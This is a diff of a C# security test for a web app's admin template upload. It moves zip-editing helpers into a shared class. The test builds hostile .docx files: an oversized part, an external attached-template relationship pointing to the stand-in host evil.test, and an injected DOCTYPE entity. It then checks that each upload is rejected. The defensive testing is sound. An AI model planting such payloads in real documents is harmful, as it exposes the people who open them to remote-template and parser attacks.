@@ -1,6 +1,6 @@
 using System.IO.Compression;
 using System.Net;
-using System.Text;
+using Appeals.Tests.Shared;
 using Appeals.Web.Tests.Hosting;
 
 namespace Appeals.Web.Tests.Security;
@@ -26,7 +26,7 @@ public sealed partial class SecurityTests
     {
         var admin = await app.SignedInClientAsync("admin");
         var shipped = await admin.GetByteArrayAsync($"/Admin/Templates/{TemplateKind}/0", Ct);
-        var hostile = Altered(shipped, zip =>
+        var hostile = DocxParts.Altered(shipped, zip =>
         {
             switch (attack)
             {
@@ -36,14 +36,14 @@ public sealed partial class SecurityTests
                         for (var i = 0; i < 64; i++) part.Write(new byte[1024 * 1024]);
                     break;
                 case "external-template":
-                    WriteEntry(zip, "word/_rels/settings.xml.rels",
+                    DocxParts.Write(zip, "word/_rels/settings.xml.rels",
                         "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">" +
                         "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://evil.test/t.dotm\" TargetMode=\"External\"/></Relationships>");
                     break;
                 case "doctype":
-                    var document = ReadEntry(zip, "word/document.xml");
+                    var document = DocxParts.Read(zip, "word/document.xml");
                     var at = document.IndexOf("<w:document", StringComparison.Ordinal);
-                    WriteEntry(zip, "word/document.xml", document[..at] + "<!DOCTYPE w:document [<!ENTITY a \"aaaaaaaaaa\">]>" + document[at..]);
+                    DocxParts.Write(zip, "word/document.xml", document[..at] + "<!DOCTYPE w:document [<!ENTITY a \"aaaaaaaaaa\">]>" + document[at..]);
                     break;
             }
         });
@@ -62,26 +62,5 @@ public sealed partial class SecurityTests
         Assert.Contains($"{attack}.docx was not stored:", page);
         Assert.Contains(reason, page);
         Assert.Equal(HttpStatusCode.NotFound, (await admin.GetAsync($"/Admin/Templates/{TemplateKind}/1", Ct)).StatusCode);
-    }
-
-    private static byte[] Altered(byte[] docx, Action<ZipArchive> change)
-    {
-        using var stream = new MemoryStream();
-        stream.Write(docx);
-        using (var zip = new ZipArchive(stream, ZipArchiveMode.Update, leaveOpen: true)) change(zip);
-        return stream.ToArray();
-    }
-
-    private static string ReadEntry(ZipArchive zip, string name)
-    {
-        using var reader = new StreamReader(zip.GetEntry(name)!.Open());
-        return reader.ReadToEnd();
-    }
-
-    private static void WriteEntry(ZipArchive zip, string name, string text)
-    {
-        zip.GetEntry(name)?.Delete();
-        using var writer = new StreamWriter(zip.CreateEntry(name).Open(), new UTF8Encoding(false));
-        writer.Write(text);
     }
 }
